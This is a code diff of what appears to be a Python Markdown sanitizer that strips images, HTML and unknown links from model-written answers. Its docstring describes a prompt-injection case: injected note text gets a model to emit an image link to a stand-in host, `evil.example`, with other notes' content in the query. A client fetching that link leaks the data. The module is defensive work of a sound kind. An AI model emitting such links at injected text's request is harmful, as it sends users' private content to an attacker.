@@ -1,22 +1,25 @@
-r"""Markdown that shows and does nothing: no image, no HTML, no link to an address that the reader's texts do not hold.
+r"""Sanitizes Markdown for display: no image, no HTML, no link to an address that the reader's texts
+do not contain.
 
-Whoever can put a note before a model can ask it to write `![](https://evil.example/?q=what-the-other-notes-say)`,
-which a client fetches as soon as it shows it. So in an answer
+Whoever can put a note before a model can ask it to write
+`![](https://evil.example/?q=what-the-other-notes-say)`, which a client fetches as soon as it shows
+it. So in an answer
 
 - `<` that could open a tag, a comment or an autolink becomes `‹`;
-- no `[` follows a `!` but in `![[name]]`, which CommonMark does not read: images with an address that may stay become
-  links, others their description;
-- `[text](address)` stays where the address stands in one of the texts that the caller gives and leads to a web page
-  or a mailbox (its title goes); otherwise `text` is left of it, in its brackets where it could join with what stands
-  beside it;
+- no `[` follows a `!` but in `![[name]]`, which CommonMark does not read: images with an address
+  that may stay become links, others their description;
+- `[text](address)` stays if the address stands in one of the texts that the caller gives and leads
+  to a web page or a mailbox (its title goes); otherwise `text` is left of it, in its brackets where
+  it could join with what stands beside it;
 - a bare address that stands in none of them becomes `‹link removed›`;
 - the info string of a fence is one word: some parsers read what else stands there as text;
 - definitions (`[label]: address`) get a blank before the colon, so that none defines anything.
 
-Code is content and stays: spans that close on their line, and blocks whose fence stands at the line's start, which
-every CommonMark parser reads alike. Where parsers may differ (a span that does not close, one in a table's row, a
-fence inside a list) nothing counts as code up to the paragraph's or the text's end. Labels of citations stay; none
-goes, and none comes about: what goes leaves something in its place.
+Code is content and stays: spans that close on their line, and blocks whose fence stands at the
+line's start, which every CommonMark parser reads alike. Where parsers may differ (a span that does
+not close, one in a table's row, a fence inside a list) nothing counts as code up to the paragraph's
+or the text's end. Labels of citations stay; none goes, and none comes about: what goes leaves
+something in its place.
 """
 
 from __future__ import annotations
@@ -31,177 +34,289 @@ from shared.markdown.neutralize import NOTHING, PAD, skeleton
 REMOVED = "‹link removed›"
 
 _LINK_START = r"https?://|ftp://|www\.|mailto:|xmpp:|(?<![:/])//(?=[^\s/<>]{1,253}\.\w)"
-"""What Markdown clients turn into links without being asked (GitHub's extended autolinks)."""
-_MAX_ADDRESS, _MAX_SPAN, _MAX_INFO = 2048, 1000, 200
-"""Characters; what is longer is read as text."""
+"""Strings that Markdown clients turn into links without being asked (GitHub's extended
+autolinks)."""
+_MAX_ADDRESS = 2048
+"""Characters of an address; a longer one is cut here and read on as text."""
+_MAX_SPAN = 1000
+"""Characters within which a span of code must close; a longer one is read as text."""
+_MAX_INFO = 200
+"""Characters of a line that opens a block of code; a longer one is read as text."""
 _ADDRESS = re.compile(rf"(?:{_LINK_START})[!#-&(-;=?-Z_a-z~']{{0,{_MAX_ADDRESS}}}", re.IGNORECASE)
-_ADDRESS_IN_LINK = rf"(?P<address>(?:[^\s<>\[\]()`\\|]|\([^\s<>\[\]()`\\|]*\)){{0,{_MAX_ADDRESS}}}+)"
-_TARGET = re.compile(rf"\([ \t]*+<?{_ADDRESS_IN_LINK}>?(?:[ \t]++[\"'(][^\[\]`\\<>\n]{{0,300}}[\"')])?[ \t]*+\)")
+_ADDRESS_IN_LINK = (
+    rf"(?P<address>(?:[^\s<>\[\]()`\\|]|\([^\s<>\[\]()`\\|]*\)){{0,{_MAX_ADDRESS}}}+)"
+)
+_TARGET = re.compile(
+    rf"\([ \t]*+<?{_ADDRESS_IN_LINK}>?(?:[ \t]++[\"'(][^\[\]`\\<>\n]{{0,300}}[\"')])?[ \t]*+\)"
+)
 _LINK = re.compile(rf"\[(?P<text>[^\[\]\n`<>\\]{{0,300}})\]{_TARGET.pattern}")
 _POINTS_SOMEWHERE = re.compile(r"[:/#]|\.[A-Za-z]{2}|\A\Z")
 _PLAIN_TEXT = re.compile(r"[\w \t.,;'’\"“”()*&%+/-]+")
 _SAFE = re.compile(r"(?:https?://|mailto:)[^\s/]", re.IGNORECASE)
 """An address of a web page or a mailbox."""
+_ENDS_ADDRESS = frozenset(" \t\n")
+"""Characters that end a bare address for every renderer. U+00A0, U+0085 and U+001C to U+001F are a
+part of it for some."""
+_ENDS_MAILBOX = _ENDS_ADDRESS | frozenset(",;!?)*\"'")
+"""Characters that end a mailbox for every renderer: few signs may stand in one."""
 _AFTER = ".,;:!?'*_~)&"
 _MAX_AFTER = 4
-"""Signs of a sentence's end that are tried as no part of an address: `(see "https://…".)` has three."""
-_SPECIAL = re.compile(rf"[`\\<>\[\]\n]|!(?=\[)|~{{3,}}|{_LINK_START}|@(?=[a-z0-9-]{{1,63}}\.\w)", re.IGNORECASE)
-_MAILBOX = re.compile(r"[\w.+-]{1,64}\Z")
+"""Signs of a sentence's end that are tried as no part of an address: `(see "https://…".)` has
+three."""
+_SPECIAL = re.compile(
+    rf"[`\\<>\[\]\n]|!(?=\[)|~{{3,}}|{_LINK_START}|@(?=[a-z0-9-]{{1,63}}\.\w)", re.IGNORECASE
+)
+_MAX_MAILBOX_NAME = 64
+_MAILBOX_SIGNS = "!#$%&'*/=?^`{|}~;:,\"()"
+"""Signs that some renderers count into the name of a mailbox, and that prose puts before one."""
+_MAILBOX = re.compile(rf"[\w.+{re.escape(_MAILBOX_SIGNS)}-]{{1,{_MAX_MAILBOX_NAME}}}\Z")
 _HOST = re.compile(r"@[\w.-]{1,255}")
 _HARMLESS_AFTER_LESS = frozenset(" \t\n0123456789=-<‹")
 _LABEL = re.compile(r"\[N\d+\]")
 _EMBEDDED = re.compile(r"!\[\[(?P<name>[\w \t.,;'’&()/#^|%+-]{1,300})\]\]")
-"""How Obsidian shows a file of the vault in a note."""
-_JOINS_BEFORE, _JOINS_AFTER = frozenset(" \t\n(*_\"“'"), frozenset(" \t\n.,;!?)*_\"”'")
+"""Obsidian's notation for a file of the vault that is shown in a note."""
+_JOINS_BEFORE = frozenset(" \t\n(*_\"“'")
+_JOINS_AFTER = frozenset(" \t\n.,;!?)*_\"”'")
 _CONTAINER = re.compile(r"[ \t>*+\-\d.):~]*")
 _INFO = re.compile(r"[ \t]*(?P<word>[\w+#.-]*)[ \t]*", re.ASCII)
-_BEYOND_A_LINE = re.compile("[|\x85\u2028\u2029]")
+_LINE_ENDS = re.compile(r"[ \t]*(?:\n|\Z)")
+_BEYOND_A_LINE = re.compile("[|\x85]")
+_LINE_SEPARATORS = str.maketrans("\u2028\u2029", "  ")
+"""Lines end here for some renderers, not for CommonMark; a blank is what both show."""
 _PROSE = re.compile(r"\([\w'’-]+[,;:]? [\w(]")
-"""What no parser takes for a link's address behind a blank. A backslash parts other brackets from what they follow."""
+"""An opening bracket that no parser takes for a link's address behind a blank. A backslash parts
+other brackets from what they follow."""
 _BEHIND_BRACKET = re.compile(r"([ \t]*+)[(:]")
 _TICKS = re.compile(r"`+")
 _RUN = re.compile(r"`+|~+")
 _LINE_KEPT = 64
+"""Characters of the start of a line that are remembered."""
 
 
 def sanitize(text: str, texts: Sequence[str] = ()) -> str:
-    """Markdown that a model or a note's author wrote -> Markdown that shows the same and does nothing; `texts`: where
-    the addresses stand that may stay. Sanitizing twice is sanitizing once. Linear in the text.
+    """Returns Markdown that shows what a model or a note's author wrote, and does nothing.
+
+    texts: the texts whose addresses may stay. Sanitizing twice is sanitizing once. Linear in the
+    text.
     """
     return Sanitizer(texts).feed(text)
 
 
 class Sanitizer:
-    """Goes through a text once, from its start to its end, piece by piece. What it gives out is safe as one text.
+    """Sanitizes a text piece by piece, in one pass. All that it returns is safe as one text.
 
-    A piece ends with a line, in front of a blank or behind a sentence's sign; a link, an image or a span of code that
-    goes on in the next piece counts as none.
+    A piece ends with a line, in front of a blank or behind a sentence's sign; a link, an image or a
+    span of code that goes on in the next piece counts as none.
     """
 
     def __init__(self, texts: Sequence[str] = ()) -> None:
-        self._text, self._texts = "", texts
-        self._at = 0
-        self._sent: list[str] = []
+        self._texts = texts
+        self._text = ""
+        """The piece at work."""
+        self._position = 0
+        """Offset into the piece."""
+        self._output: list[str] = []
+        """Sanitized parts of the piece."""
         self._last = "\n"
-        self._closed = False  # whether a bracket was closed last, blanks aside
-        self._line = ""  # the start of what was sent of this line
-        self._fence = ""  # the opening of the block of code we are in
-        self._no_spans = False  # nothing counts as a span of code up to the paragraph's end
+        """The last character of the output."""
+        self._is_behind_bracket = False
+        """True if the output ends in `]`, blanks aside."""
+        self._line_start = ""
+        """The first characters of the output's last line."""
+        self._fence = ""
+        """The opening of the block of code that the text is in; empty outside."""
+        self._no_spans = False
+        """True if nothing counts as a span of code up to the paragraph's end."""
         self._no_code = False
+        """True if nothing counts as code up to the text's end."""
         self._opened_angle = False
-        self._ends_in_address = False  # whether the last piece does: what follows must not become a part of it
-        self._may_define = True  # whether the bracket open or closed last may be the label of a definition
+        """True if a `<` that was replaced waits for its `>` on this line."""
+        self._ends_in_address = False
+        """True if the last piece ended in an address: what follows must not become a part of it."""
+        self._may_define = True
+        """True if the bracket opened or closed last may be the label of a definition."""
 
     def feed(self, text: str) -> str:
-        """The next piece -> the same sanitized."""
-        parted = self._ends_in_address and text[:1].strip()
-        self._text, self._at, self._sent = f" {text}" if parted else text, 0, []
+        """Returns the next piece of the text sanitized."""
+        text = text.translate(_LINE_SEPARATORS)
+        if self._ends_in_address and text and text[0] not in _ENDS_ADDRESS:
+            text = f" {text}"
         self._ends_in_address = False
-        while self._at < len(self._text):
+        self._text = text
+        self._position = 0
+        self._output = []
+        while self._position < len(self._text):
             self._step()
-        return "".join(self._sent)
+        return "".join(self._output)
 
     def _step(self) -> None:
+        """Takes the next part: a line of code, a sign that may act, or plain text before one."""
         if self._fence:
-            line = self._rest_of_line()
-            closes = line.strip(" \t") == self._fence
-            self._fence = "" if closes else self._fence
-            self._line_of_code(line, line.rstrip() if closes else line)
-        elif self._closed and (behind := _BEHIND_BRACKET.match(self._text, self._at)):
-            self._after_bracket(behind[1])
+            self._take_line_in_fence()
+            return
+        if self._is_behind_bracket:
+            behind = _BEHIND_BRACKET.match(self._text, self._position)
+            if behind is not None:
+                self._take_behind_bracket(behind[1])
+                return
+        special = _SPECIAL.search(self._text, self._position)
+        if special is None:
+            self._take(self._text[self._position :])
+        elif special.start() > self._position:
+            self._take(self._text[self._position : special.start()])
         else:
-            found = _SPECIAL.search(self._text, self._at)
-            end = found.start() if found else len(self._text)
-            if end > self._at:
-                self._take(self._text[self._at : end])
-            elif found:
-                self._special(found[0])
+            self._take_special(special[0])
 
-    def _special(self, signs: str) -> None:
-        sign, following = signs[0], self._text[self._at + 1 : self._at + 2]
-        if sign == "\n":
-            self._no_spans = self._no_spans and bool(self._line.strip())
-            self._newline()
-        elif sign == "\\":
-            kept = following.isascii() and following.isprintable() and not following.isalnum()
-            self._take("\\" + following if kept and following not in "< " else "\\")
-        elif sign == "<":
-            harmless = following in _HARMLESS_AFTER_LESS
-            self._opened_angle = self._opened_angle or not harmless
-            self._take("<", "<" if harmless else "‹")
-        elif sign == ">":
-            self._take(">", "›" if self._opened_angle else ">")
-            self._opened_angle = False
-        elif sign == "]":
-            self._take("]")
-        elif sign in "`~![@":
-            {"`": self._run, "~": self._run, "!": self._image, "[": self._bracket, "@": self._mail}[sign]()
-        else:
-            self._bare_address(signs)
+    def _take_special(self, signs: str) -> None:
+        """Takes what begins with `signs`, a match of `_SPECIAL`."""
+        match signs[0]:
+            case "\n":
+                self._take_end_of_line()
+            case "\\":
+                self._take_backslash()
+            case "<":
+                self._take_less_than()
+            case ">":
+                self._take_greater_than()
+            case "]":
+                self._take("]")
+            case "`" | "~":
+                self._take_run()
+            case "!":
+                self._take_image()
+            case "[":
+                self._take_bracket()
+            case "@":
+                self._take_mailbox_host()
+            case _:
+                self._take_bare_address(signs)
 
-    def _take(self, taken: str, sent: str | None = None) -> None:
-        """Go on behind `taken`, for which `sent` is shown; None: itself."""
-        self._at += len(taken)
-        text = taken if sent is None else sent
-        if text:
-            self._sent.append(text)
-            self._last = text[-1]
-            if shown := text.rstrip(" \t"):
-                self._closed = shown[-1] == "]"
-            self._line = (self._line + text[:_LINE_KEPT])[:_LINE_KEPT]
+    def _take(self, source: str, output: str | None = None) -> None:
+        """Moves on behind `source` and puts out `output` for it; with None, `source` itself."""
+        self._position += len(source)
+        if output is None:
+            output = source
+        if not output:
+            return
+        self._output.append(output)
+        self._last = output[-1]
+        without_blanks = output.rstrip(" \t")
+        if without_blanks:
+            self._is_behind_bracket = without_blanks[-1] == "]"
+        self._line_start = (self._line_start + output[:_LINE_KEPT])[:_LINE_KEPT]
 
     def _rest_of_line(self) -> str:
-        end = self._text.find("\n", self._at)
-        return self._text[self._at : end if end >= 0 else None]
+        end = self._text.find("\n", self._position)
+        if end < 0:
+            return self._text[self._position :]
+        return self._text[self._position : end]
 
-    def _newline(self) -> None:
+    def _take_end_of_line(self) -> None:
+        is_blank = not self._line_start.strip()
+        if is_blank:  # it ends the paragraph
+            self._no_spans = False
+        self._take_newline()
+
+    def _take_newline(self) -> None:
         self._take("\n")
-        self._line, self._opened_angle, self._may_define = "", False, True
+        self._line_start = ""
+        self._opened_angle = False
+        self._may_define = True
+
+    def _take_backslash(self) -> None:
+        """Takes a backslash, and the sign that it escapes unless that could act on its own."""
+        following = self._text[self._position + 1 : self._position + 2]
+        is_sign = following.isascii() and following.isprintable() and not following.isalnum()
+        if is_sign and following not in "< ":
+            self._take("\\" + following)
+        else:
+            self._take("\\")
+
+    def _take_less_than(self) -> None:
+        following = self._text[self._position + 1 : self._position + 2]
+        if following in _HARMLESS_AFTER_LESS:
+            self._take("<")
+        else:
+            self._opened_angle = True
+            self._take("<", "‹")
+
+    def _take_greater_than(self) -> None:
+        if self._opened_angle:
+            self._opened_angle = False
+            self._take(">", "›")
+        else:
+            self._take(">")
 
     # -- code
 
-    def _run(self) -> None:
-        """Backticks or tildes."""
-        found = _RUN.match(self._text, self._at)
-        assert found  # noqa: S101 - it begins with one
-        run = found[0]
-        if len(run) > 2 and not self._no_code:  # three make a fence
-            if not self._line:
-                self._open_fence(run)
-                return
-            self._no_code = _CONTAINER.fullmatch(self._line) is not None
-        self._take(run if run[0] == "~" or self._no_code or self._no_spans else self._span(run))
+    def _take_run(self) -> None:
+        """Takes backticks or tildes, with the code that they open."""
+        match = _RUN.match(self._text, self._position)
+        assert match is not None  # noqa: S101 - it begins with one
+        run = match[0]
+        could_be_fence = len(run) > 2 and not self._no_code
+        if could_be_fence and not self._line_start:
+            self._open_fence(run)
+            return
+        if could_be_fence:
+            self._no_code = _CONTAINER.fullmatch(self._line_start) is not None
+        if run[0] == "~" or self._no_code or self._no_spans:
+            self._take(run)
+        else:
+            self._take(self._span(run))
 
     def _open_fence(self, run: str) -> None:
+        """Takes the line that opens a block of code, or the run alone if it may not close."""
         line = self._rest_of_line()
-        info = _INFO.fullmatch(line, len(run)) if len(line) <= _MAX_INFO else None
-        closing = re.compile(rf"\n {{0,3}}{re.escape(run)}").search(self._text, self._at + len(line))
-        holds = closing is not None and closing.start() > self._at + len(line)
-        if info and closing and holds and re.compile(r"[ \t]*(?:\n|\Z)").match(self._text, closing.end()):
+        info = None
+        if len(line) <= _MAX_INFO:
+            info = _INFO.fullmatch(line, len(run))
+        if info is not None and self._has_closing_fence(run, self._position + len(line)):
             self._fence = run
-            self._line_of_code(line, run + info["word"])
+            self._take_line_of_code(line, run + info["word"])
         else:
             self._no_code = True  # whether this opens a block is not ours to tell
             self._take(run)
 
-    def _line_of_code(self, line: str, shown: str) -> None:
-        self._take(line, shown)
-        if self._at < len(self._text):
-            self._newline()
+    def _has_closing_fence(self, run: str, line_end: int) -> bool:
+        """Reports whether a line closes the block of code whose opening line ends at `line_end`.
+
+        At least one line must stand between the two.
+        """
+        closing = re.compile(rf"\n {{0,3}}{re.escape(run)}").search(self._text, line_end)
+        if closing is None or closing.start() == line_end:
+            return False
+        return _LINE_ENDS.match(self._text, closing.end()) is not None
+
+    def _take_line_in_fence(self) -> None:
+        line = self._rest_of_line()
+        if line.strip(" \t") == self._fence:
+            self._fence = ""
+            self._take_line_of_code(line, line.rstrip())
+        else:
+            self._take_line_of_code(line, line)
+
+    def _take_line_of_code(self, line: str, output: str) -> None:
+        self._take(line, output)
+        if self._position < len(self._text):
+            self._take_newline()
             self._no_spans = False
 
     def _span(self, run: str) -> str:
-        """The span of code that the run opens, or the run alone."""
-        if self._last in "\\~":  # some parsers see no span behind these, whatever stands before them
+        """Returns the span of code that the run opens, or the run alone."""
+        if self._last in "\\~":
+            # Some parsers see no span behind these, whatever stands before them.
             self._no_spans = True
             return run
-        limit = self._at + _MAX_SPAN
-        newline = self._text.find("\n", self._at, limit)
-        for found in _TICKS.finditer(self._text, self._at + len(run)):
-            if found.start() >= (limit if newline < 0 else newline):
+        limit = self._position + _MAX_SPAN
+        newline = self._text.find("\n", self._position, limit)
+        if newline >= 0:
+            limit = newline
+        for ticks in _TICKS.finditer(self._text, self._position + len(run)):
+            if ticks.start() >= limit:
                 break
-            if found[0] == run:
-                span = self._text[self._at : found.end()]
+            if ticks[0] == run:
+                span = self._text[self._position : ticks.end()]
                 if _BEYOND_A_LINE.search(span):
                     break
                 return span
@@ -210,88 +325,150 @@ class Sanitizer:
 
     # -- links
 
-    def _image(self) -> None:
-        embedded = _EMBEDDED.match(self._text, self._at)
-        if embedded and not _ADDRESS.search(embedded["name"]) and not _label().fullmatch(skeleton(embedded["name"])):
+    def _take_image(self) -> None:
+        embedded = _EMBEDDED.match(self._text, self._position)
+        if embedded is not None and _is_harmless(embedded["name"]):
             self._may_define = False
             self._take(embedded[0])
-        elif not self._link(1):
+        elif not self._take_link(ahead=1):
             self._take("!")
 
-    def _bracket(self) -> None:
-        if self._link(0):
+    def _take_bracket(self) -> None:
+        if self._take_link(ahead=0):
             return
-        self._may_define = self._may_define and _CONTAINER.fullmatch(self._line) is not None
-        label = _LABEL.match(self._text, self._at)
-        opened = label[0] if label else "["
-        self._take(opened, f" {opened}" if self._last == "!" and not label else opened)
+        if self._may_define:
+            self._may_define = _CONTAINER.fullmatch(self._line_start) is not None
+        label = _LABEL.match(self._text, self._position)
+        if label is not None:
+            self._take(label[0])
+        elif self._last == "!":
+            self._take("[", " [")
+        else:
+            self._take("[")
 
-    def _link(self, ahead: int) -> bool:
-        """Whether a link, or with one character ahead an image, was taken as a whole."""
-        link = _LINK.match(self._text, self._at + ahead)
-        if not link or _LABEL.match(self._text, self._at + ahead):
+    def _take_link(self, *, ahead: int) -> bool:
+        """Takes a link, or with one character ahead an image; reports whether it was there."""
+        start = self._position + ahead
+        link = _LINK.match(self._text, start)
+        if link is None or _LABEL.match(self._text, start):
             return False
-        text, address = link["text"], link["address"]
+        text = link["text"]
+        address = link["address"]
         if not _PLAIN_TEXT.fullmatch(text) or not _POINTS_SOMEWHERE.search(address):
             return False
-        shown, following = text, self._text[link.end() : link.end() + 1]
         if _SAFE.match(address) and _contains(address, self._texts):
-            shown = f"{' ' if self._last in '!]' else ''}[{text}]({address})"
-        elif (
-            self._last not in _JOINS_BEFORE
-            or (following and following not in _JOINS_AFTER)
-            or _label().fullmatch(skeleton(text))
-            or _ADDRESS.search(text)
-        ):
+            output = f"[{text}]({address})"
+            if self._last in "!]":
+                output = f" {output}"
+        elif self._can_stand_without_brackets(text, link.end()):
+            output = text
+        else:
             return False
-        self._take(self._text[self._at : link.end()], shown)
+        self._take(self._text[self._position : link.end()], output)
         return True
 
-    def _after_bracket(self, blanks: str) -> None:
+    def _can_stand_without_brackets(self, text: str, end: int) -> bool:
+        """Reports whether a link's text joins with nothing beside it; `end`: the link's end."""
+        if self._last not in _JOINS_BEFORE:
+            return False
+        following = self._text[end : end + 1]
+        if following and following not in _JOINS_AFTER:
+            return False
+        return _is_harmless(text)
+
+    def _take_behind_bracket(self, blanks: str) -> None:
+        """Takes `(` or `:` behind a bracket and blanks, so that it makes no link or definition."""
         self._take(blanks)
-        if self._text[self._at] == ":":
-            self._take(":", " :" if self._may_define and not blanks else ":")
+        if self._text[self._position] == ":":
+            defines = self._may_define and not blanks
+            self._take(":", " :" if defines else ":")
             return
-        target = _TARGET.match(self._text, self._at)
-        if target and _POINTS_SOMEWHERE.search(target["address"]) and not _contains(target["address"], self._texts):
+        target = _TARGET.match(self._text, self._position)
+        if target is not None and self._leads_astray(target["address"]):
             self._take(target[0], "")
+        elif not _PROSE.match(self._text, self._position):
+            self._take("(", "\\(")
+        elif self._last == "]":
+            self._take("(", " (")
         else:
-            prose = "(" if self._last != "]" else " ("
-            self._take("(", prose if _PROSE.match(self._text, self._at) else "\\(")
+            self._take("(")
 
-    def _holds(self, mailbox: str, run: str) -> bool:
-        """Whether the texts hold the address that the run begins with, with or without a sentence's end behind it."""
-        after = min(_MAX_AFTER, len(run) - len(run.rstrip(_AFTER)))
-        return any(_contains(mailbox + run[: len(run) - end], self._texts) for end in range(after + 1))
+    def _leads_astray(self, address: str) -> bool:
+        """Reports whether a link's target points to an address that the texts do not contain."""
+        if not _POINTS_SOMEWHERE.search(address):
+            return False
+        return not _contains(address, self._texts)
 
-    def _mail(self) -> None:
-        """`name@host`, which many clients link: the texts hold it, or it is spelt so that none does."""
-        name = _MAILBOX.search(self._text, max(0, self._at - 64), self._at)
-        host = _HOST.match(self._text, self._at)
-        assert host  # noqa: S101 - it begins with one
-        known = not name or self._holds(name[0], host[0])
-        self._take("@", "@" if known else " (at) ")
+    def _is_in_texts(self, mailbox: str, run: str) -> bool:
+        """Reports whether the texts contain the address that the run begins with.
 
-    def _bare_address(self, start: str) -> None:
-        found = _ADDRESS.match(self._text, self._at)
-        assert found  # noqa: S101 - it begins with `start`
-        following = self._text[found.end() : found.end() + 1]
-        separate = "" if not following or following.isspace() else " "  # what follows must not become a part of it
-        if found[0] == start or self._holds("", found[0]):
-            self._ends_in_address = not following
-            self._take(found[0], f"{found[0]}{separate}")
+        mailbox: the name before a mailbox's host, else empty. A few signs of a sentence's end
+        behind the address may be a part of it or not.
+        """
+        signs = len(run) - len(run.rstrip(_AFTER))
+        for sign_count in range(min(_MAX_AFTER, signs) + 1):
+            address = run[: len(run) - sign_count]
+            if _contains(mailbox + address, self._texts):
+                return True
+        return False
+
+    def _take_mailbox_host(self) -> None:
+        """Takes `@host`, which many clients link: respelt unless the texts contain the mailbox."""
+        host = _HOST.match(self._text, self._position)
+        assert host is not None  # noqa: S101 - it begins with one
+        first = max(0, self._position - _MAX_MAILBOX_NAME)
+        before_host = _MAILBOX.search(self._text, first, self._position)
+        name = ""
+        if before_host is not None:
+            name = before_host[0].lstrip(_MAILBOX_SIGNS)
+        if not name:
+            self._take("@")
+        elif self._is_in_texts(name, host[0]):
+            self._take_address(host[0], _ENDS_MAILBOX)
         else:
-            self._take(found[0].rstrip(_AFTER), f"{' ' if self._last == ']' else ''}{REMOVED}")
+            self._take("@", " (at) ")
+
+    def _take_bare_address(self, start: str) -> None:
+        """Takes an address outside links; `start`: its first characters, up to the host."""
+        match = _ADDRESS.match(self._text, self._position)
+        assert match is not None  # noqa: S101 - it begins with `start`
+        address = match[0]
+        if address == start or self._is_in_texts("", address):
+            self._take_address(address, _ENDS_ADDRESS)
+            return
+        output = REMOVED
+        if self._last == "]":
+            output = f" {output}"
+        self._take(address.rstrip(_AFTER), output)
+
+    def _take_address(self, address: str, ends: frozenset[str]) -> None:
+        """Takes an address that stays, with a blank behind it unless one of `ends` follows."""
+        end = self._position + len(address)
+        following = self._text[end : end + 1]
+        self._ends_in_address = not following
+        # The sign of an image goes, and its bracket would then stand behind the address.
+        is_image = self._text.startswith("![", end)
+        if following and (following not in ends or is_image):
+            self._take(address, f"{address} ")
+        else:
+            self._take(address)
 
 
 def _contains(address: str, texts: Iterable[str]) -> bool:
-    """Whether one of the texts has the whole address: not as the start or the middle of a longer one."""
-    whole = rf"(?<![A-Za-z0-9]){re.escape(address)}(?![A-Za-z0-9/\-%=&?#~+@])"
-    return any(address in text and re.search(whole, text) for text in texts)
+    """Reports whether a text contains the complete address, not only within a longer one."""
+    complete = rf"(?<![A-Za-z0-9]){re.escape(address)}(?![A-Za-z0-9/\-%=&?#~+@])"
+    return any(address in text and re.search(complete, text) for text in texts)
+
+
+def _is_harmless(text: str) -> bool:
+    """Reports whether a text contains no address and could not be a part of a citation's marker."""
+    if _ADDRESS.search(text):
+        return False
+    return _label_part().fullmatch(skeleton(text)) is None
 
 
 @cache
-def _label() -> re.Pattern[str]:
-    """What could be a part of a citation's marker, in the skeleton of a text."""
+def _label_part() -> re.Pattern[str]:
+    """Returns a pattern of what could be part of a citation's marker, in a text's skeleton."""
     letters = "".join(sorted(set("".join(conjunctions()))))
     return re.compile(rf"[\s{PAD}{NOTHING}^Nn\d,;&/、*_~`{letters}-]*")
